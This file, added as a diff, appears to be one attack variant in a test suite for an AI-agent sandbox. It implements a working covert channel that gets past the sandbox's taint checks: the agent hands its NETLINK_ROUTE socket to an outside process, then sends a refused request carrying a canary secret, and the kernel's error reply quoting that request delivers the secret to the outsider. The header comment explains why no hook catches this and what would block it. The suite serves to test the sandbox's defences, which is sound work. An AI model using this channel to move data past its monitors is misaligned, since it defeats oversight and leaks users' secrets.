@@ -1,0 +1,136 @@
+// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
+/* netlink_route_shared - the agent's own NETLINK_ROUTE socket, also held by an outsider, with
+ * the kernel as the reflector. NETLINK_ROUTE is the one netlink family the launcher's seccomp
+ * allows and mncd's sweep keeps whoever holds it ("what the agent may open itself"). Before its
+ * recv the agent (untainted: it may talk to anyone) opens a NETLINK_ROUTE socket and hands a
+ * copy to an outsider (uid 65534, DIR/nl.sock), which keeps reading it. After the taint the
+ * agent sends the kernel an RTM_NEWLINK request whose payload carries the canary: refused for
+ * want of CAP_NET_ADMIN, and the kernel's NLMSG_ERROR answer quotes the whole request (no
+ * NETLINK_CAP_ACK) into the socket's receive queue, which the outsider reads. No address,
+ * no cgroup hook: netlink to the kernel is not a destination any hook judges.
+ * Verifier: the outsider, asked after the agent exited, hands over what it read after "mk".
+ * Would block it: the sweep treating a NETLINK_ROUTE socket held by a process outside the agent
+ * as shared (the host pass over netlink sockets too), or refusing netlink sockets passed in or
+ * out; the launcher setting nothing: NETLINK_CAP_ACK is the reader's choice. */
+#include <fcntl.h>
+#include <grp.h>
+#include <poll.h>
+#include <sys/stat.h>
+#include <sys/un.h>
+#include <linux/netlink.h>
+#include <linux/rtnetlink.h>
+
+#include "atk_variants.h"
+
+static void outsider(const struct atk_ctx *c, const char *path, int cmd, int ans)
+{
+    (void)c;
+    int l = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    struct sockaddr_un sa = {.sun_family = AF_UNIX};
+    snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
+    if (l < 0 || bind(l, (struct sockaddr *)&sa, sizeof(sa)) < 0 || chmod(path, 0777) < 0 || listen(l, 4) < 0)
+        _exit(2);
+    if (setgroups(0, NULL) < 0 || setgid(ATK_NOBODY) < 0 || setuid(ATK_NOBODY) < 0)
+        _exit(1);
+    if (write(ans, "r", 1) != 1)
+        _exit(1);
+    int s = accept4(l, NULL, NULL, SOCK_CLOEXEC);
+    int m = -1;
+    if (s < 0 || atk_recv_fds(s, &m, 1) != 1)
+        _exit(3);
+    if (write(s, "A", 1) != 1)
+        _exit(3);
+    close(s);
+    close(l);
+    static char buf[1 << 17];
+    size_t n = 0;
+    for (;;) { /* read the agent's mncd connection until asked */
+        struct pollfd pf[2] = {{.fd = m, .events = POLLIN}, {.fd = cmd, .events = POLLIN}};
+        if (poll(pf, 2, -1) < 0)
+            _exit(1);
+        if (pf[0].revents & POLLIN) {
+            ssize_t r = read(m, buf + n, sizeof(buf) - 1 - n);
+            if (r > 0 && (n += (size_t)r) < sizeof(buf) - 1)
+                continue;
+        }
+        if (pf[0].revents & (POLLHUP | POLLERR) && !(pf[0].revents & POLLIN))
+            m = -1; /* poll ignores a negative fd: wait for the question only */
+        if (pf[1].revents & (POLLIN | POLLHUP))
+            break;
+    }
+    /* the answers are binary: hand over the first "mk" onwards (the canary's prefix) */
+    for (size_t i = 0; i + 14 <= n; i++)
+        if (buf[i] == 'm' && buf[i + 1] == 'k') {
+            if (write(ans, buf + i, 14) < 0)
+                _exit(1);
+            break;
+        }
+    _exit(0);
+}
+
+static int prepare(struct atk_ctx *c)
+{
+    char k[700];
+    snprintf(k, sizeof(k), "%s/nl.sock", c->dir);
+    atk_set(c, "nl", "%s", k);
+    return atkv_keeper_start(c, k, outsider, "1 drop to 65534, 2 listen, 3 take the socket");
+}
+
+static int agent(struct atk_ctx *c)
+{
+    if (getenv("ATK_CONTROL_SECRET")) { /* positive control: the value goes on the outsider's copy */
+        int s = (int)atk_try(c, "connect the outsider", atk_unix(SOCK_STREAM, atk_arg(c, "nl")));
+        int sp[2];
+        if (s < 0 || socketpair(AF_UNIX, SOCK_STREAM, 0, sp) < 0)
+            return 0;
+        atk_try(c, "hand over one end", atk_send_fds(s, 'L', &sp[1], 1));
+        atk_recv(c);
+        atk_try(c, "write it", write(sp[0], c->secret, strlen(c->secret)));
+        sleep(1);
+        return 0;
+    }
+    int nl = (int)atk_try(c, "socket NETLINK_ROUTE", socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE));
+    int s = (int)atk_try(c, "connect the outsider", atk_unix(SOCK_STREAM, atk_arg(c, "nl")));
+    if (nl < 0 || s < 0)
+        return 0;
+    atk_try(c, "hand a copy of the netlink socket to the outsider", atk_send_fds(s, 'L', &nl, 1));
+    char ack;
+    atk_try(c, "outsider holds it", read(s, &ack, 1));
+    close(s);
+    atk_recv(c);
+    struct {
+        struct nlmsghdr h;
+        struct ifinfomsg i;
+        char data[64];
+    } req;
+    memset(&req, 0, sizeof(req));
+    req.h.nlmsg_len = sizeof(req);
+    req.h.nlmsg_type = RTM_NEWLINK; /* needs CAP_NET_ADMIN: refused, and the refusal quotes it */
+    req.h.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK;
+    req.h.nlmsg_seq = 1;
+    req.i.ifi_family = AF_UNSPEC;
+    snprintf(req.data, sizeof(req.data), "%.63s", c->secret);
+    struct sockaddr_nl k = {.nl_family = AF_NETLINK}; /* the kernel */
+    atk_try(c, "send RTM_NEWLINK carrying the canary to the kernel",
+            sendto(nl, &req, sizeof(req), 0, (struct sockaddr *)&k, sizeof(k)));
+    sleep(1); /* the outsider reads the kernel's error answer */
+    return 0;
+}
+
+static void verify(struct atk_ctx *c)
+{
+    atkv_keeper_verify(
+        c,
+        "the kernel's NLMSG_ERROR quoting the request, read by an outsider holding the agent's NETLINK_ROUTE socket");
+}
+
+static const struct atk A = {
+    "netlink_route_shared",
+    "the agent's NETLINK_ROUTE socket shared with an outsider; the kernel quotes the request back",
+    ATK_NO_RECV,
+    prepare,
+    agent,
+    NULL,
+    verify,
+    atkv_keeper_cleanup};
+ATK_MAIN(A)
